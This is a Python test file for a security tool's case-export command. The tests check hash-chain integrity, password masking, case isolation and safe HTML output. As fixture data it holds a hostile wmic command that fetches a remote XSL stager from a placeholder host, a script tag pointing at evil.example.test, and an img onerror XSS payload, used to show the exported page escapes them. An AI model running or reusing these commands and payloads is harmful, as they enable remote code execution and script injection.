"""One case as one file: whoever has it can check it with the standard library alone, nothing in it
acts, no password is in it, and it names no other case's evidence."""

from __future__ import annotations

import hashlib
import json
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from runner.cli import main
from runner.journal import entries
from runner.masking import MASK
from tests.world import World, running_world

SECRET = "Zq7kX9wJ"
HOSTILE = (
    f'wmic /node:WS02 /user:CORP\\a /password:{SECRET} os get /format:"https://u:{SECRET}@'
    'stager.example.test/a.xsl" <script src=//evil.example.test/x></script>'
    '<img src=x onerror=alert(1)>" \u202e'
)
OTHER = "wmic os get Name /format:https://elsewhere.example.test/b.xsl"


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    """A case that was asked about, approved and isolated, and another one beside it."""
    with running_world(tmp_path) as found:
        found.arm()
        found.hit(cmdline=HOSTILE, parent_process=f"cmd /c {HOSTILE}")
        found.tick()
        found.hit(host="SRV9", cmdline=OTHER)
        found.tick()
        found.yes(found.questions()[0])
        found.ticks(4, 60)
        yield found


def export(world: World, out: Path, *more: str) -> int:
    case = world.cases()[0].id
    config = str(world.folder / "config.yaml")
    return main(["export", case, "--out", str(out), "--config", config, *more])


def files_of(pack: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(pack) as opened:
        assert opened.testzip() is None
        return {name: opened.read(name) for name in opened.namelist()}


def chain_of(files: dict[str, bytes]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in files["chain.jsonl"].splitlines()]


def faults_of(chain: list[dict[str, Any]]) -> list[str]:
    """As README.txt in the pack says: a few lines of the standard library."""
    faults = []
    names = ("seq", "at", "actor", "kind", "refs", "payload_sha256", "prev")
    for before, link in zip([None, *chain], chain, strict=False):
        text = json.dumps([link[name] for name in names], separators=(",", ":"), ensure_ascii=False)
        if hashlib.sha256(text.encode()).hexdigest() != link["sha256"]:
            faults.append(f"{link['seq']} changed")
        if before is not None and (before["sha256"], before["seq"] + 1) != (
            link["prev"],
            link["seq"],
        ):
            faults.append(f"{link['seq']} follows another")
        if "payload" in link and digest(link["payload"].encode()) != link["payload_sha256"]:
            faults.append(f"{link['seq']} said something else")
    return faults


def digest(content: bytes) -> str:
    return hashlib.sha256(content).hexdigest()


def test_pack_is_whole_and_is_proved_with_the_standard_library(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pack = tmp_path / "case.zip"
    assert export(world, pack) == 0
    assert "with the proof of its entries" in capsys.readouterr().out
    assert pack.stat().st_mode & 0o777 == 0o600
    files = files_of(pack)
    listed = dict(line.split("  ")[::-1] for line in files["MANIFEST"].decode().splitlines())
    assert listed == {name: digest(text) for name, text in files.items() if name != "MANIFEST"}
    assert {"README.txt", "case.json", "page.html", "chain.jsonl", "proof.json"} <= set(listed)
    chain = chain_of(files)
    assert faults_of(chain) == []
    proof = json.loads(files["proof.json"])
    assert (proof["first"], proof["last"]) == (chain[0]["seq"], chain[-1]["seq"])
    assert proof["faults"] == []
    case = json.loads(files["case.json"])
    assert case["case"]["id"] == world.cases()[0].id
    assert case["journal_head"]["sha256"] == proof["head"]
    # What people said and what was done is all in it, and proved word for word.
    said = {link["kind"] for link in chain if link["of_case"] and "payload" in link}
    assert {"question_opened", "question_approved", "ledger_confirmed", "run_queued"} <= said


def test_pack_when_a_line_was_changed_then_the_check_says_which(
    world: World, tmp_path: Path
) -> None:
    """Else the check above could not fail."""
    pack = tmp_path / "case.zip"
    export(world, pack)
    chain = chain_of(files_of(pack))
    chain[4]["actor"] = "somebody-else"
    assert faults_of(chain) == [f"{chain[4]['seq']} changed"]
    assert faults_of(chain[:6] + chain[7:])[-1] == f"{chain[7]['seq']} follows another"
    link = next(link for link in chain if "payload" in link)
    link["payload"] += " "
    assert f"{link['seq']} said something else" in faults_of(chain)


class Tags(HTMLParser):
    """Which elements and attributes a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes.update(name for name, _ in attrs)


def test_page_when_the_command_line_is_hostile_then_it_is_text(
    world: World, tmp_path: Path
) -> None:
    pack = tmp_path / "case.zip"
    export(world, pack)
    page = files_of(pack)["page.html"].decode()
    seen = Tags()
    seen.feed(page)
    assert seen.names.isdisjoint({"script", "img", "a", "link", "iframe", "form", "svg", "object"})
    assert not {name for name in seen.attributes if name.startswith("on")}
    assert seen.attributes.isdisjoint({"src", "href", "style"})
    assert "&lt;script src=//evil.example.test/x&gt;" in page
    assert "\u202e" not in page
    assert r"\u202e" in page
    assert "In the journal" in page


def test_pack_holds_no_password_and_nothing_that_another_case_said(
    world: World, tmp_path: Path
) -> None:
    pack = tmp_path / "case.zip"
    export(world, pack)
    files = files_of(pack)
    for name, content in files.items():
        assert SECRET not in content.decode(), name
    assert MASK in files["case.json"].decode()
    chain = chain_of(files)
    others = [link for link in chain if not link["of_case"]]
    assert others, "the other case came in between"
    assert not any("payload" in link or "masked_payload" in link for link in others)
    masked = [link for link in chain if "masked_payload" in link]
    assert MASK in json.dumps(masked)
    assert all("payload" not in link for link in masked)
    for name in ("chain.jsonl", "case.json", "page.html"):
        assert b"elsewhere.example.test" not in files[name], name


def test_entries_of_a_case_are_its_own_and_all_of_them(world: World) -> None:
    """Counted in another way: an entry is the case's when it names it, or what it made."""
    first, second = world.cases()
    with world.journal.read() as tx:
        own, others = entries.of_case(tx, first.id), entries.of_case(tx, second.id)
    assert set(own).isdisjoint(others)
    known = {first.id, *(run.id for run in world.runs() if run.case_id == first.id)}
    known |= {one.id for one in world.questions() if one.case_id == first.id}
    named = [
        entry.seq
        for entry in world.entries()
        if any(name in value for value in entry.refs.values() for name in known)
    ]
    held = [
        entry.seq
        for entry in world.entries()
        if entry.kind.startswith("ledger_") and first.id in entry.payload["holders"]
    ]
    assert held
    assert own == sorted({*named, *held})


def test_export_when_repeated_then_the_bytes_are_the_same(world: World, tmp_path: Path) -> None:
    one, two = tmp_path / "one.zip", tmp_path / "two.zip"
    assert (export(world, one), export(world, two)) == (0, 0)
    assert one.read_bytes() == two.read_bytes()


def test_export_when_the_file_is_there_then_only_force_overwrites_it(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "case.zip"
    out.write_text("somebody's")
    assert export(world, out) == 2
    assert "is there already; name another --out, or add --force" in capsys.readouterr().err
    assert out.read_text() == "somebody's"
    assert export(world, out, "--force") == 0
    assert out.stat().st_mode & 0o777 == 0o600
    assert "MANIFEST" in files_of(out)
    assert sorted(tmp_path.glob(".case*")) == []


def test_export_when_it_cannot_be_written_or_there_is_no_such_case_then_it_says_so(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert export(world, tmp_path / "nowhere" / "case.zip") == 2
    assert "cannot be written: No such file" in capsys.readouterr().err
    config = str(world.folder / "config.yaml")
    out = str(tmp_path / "none.zip")
    assert main(["export", "case-0000000000", "--out", out, "--config", config]) == 2
    assert "there is no case case-0000000000" in capsys.readouterr().err
    assert not Path(out).exists()


def test_export_when_the_chain_is_broken_then_the_pack_says_so(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with world.journal.write() as tx:
        tx.change("update entry set actor = 'nobody' where seq = 3")
    pack = tmp_path / "case.zip"
    assert export(world, pack) == 1
    assert "written, but the journal is not whole: entry 3 was changed" in capsys.readouterr().err
    assert json.loads(files_of(pack)["proof.json"])["faults"] == ["entry 3 was changed"]


def test_export_when_it_would_write_over_what_is_no_pack_then_refused_in_one_sentence(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "link.zip").symlink_to(tmp_path / "elsewhere.zip")
    journal = world.config.state_dir / "journal.db"
    before = journal.stat().st_ino
    for out in (tmp_path, tmp_path / "link.zip", journal, Path("/")):
        assert export(world, out, "--force") == 2
        said = capsys.readouterr().err
        assert "is a folder, a link, or lies in the journal's own folder" in said
    assert journal.stat().st_ino == before
